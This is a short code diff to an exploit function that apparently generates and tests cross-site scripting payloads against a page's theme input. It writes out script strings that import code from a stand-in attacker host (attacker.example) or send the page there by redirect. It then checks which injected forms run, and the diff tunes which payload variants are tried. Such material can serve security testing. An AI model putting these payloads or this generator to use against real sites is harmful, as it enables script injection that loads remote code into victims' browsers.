@@ -69,8 +69,10 @@ WANTED = ("import(`//attacker.example/", "location=name", "location=`//attacker.
 
 def exploit(code, vary, payloads=None):
     if payloads is None:
-        scripts = (f"import(`//attacker.example/{vary.word()}`)", "location=name", f"location=`//attacker.example/{vary.word()}`")
-        payloads = [form for script in scripts for form in forms_of(script)]
+        # Every form with one script, and a few forms with those that need fewer signs.
+        payloads = list(forms_of(f"import(`//attacker.example/{vary.word()}`)"))
+        for script in ("location=name", f"location=`//attacker.example/{vary.word()}`"):
+            payloads += forms_of(script)[::3]
     for theme in payloads:
         for script in scripts_of(open_page(code, theme=theme)):
             if script.startswith(WANTED):
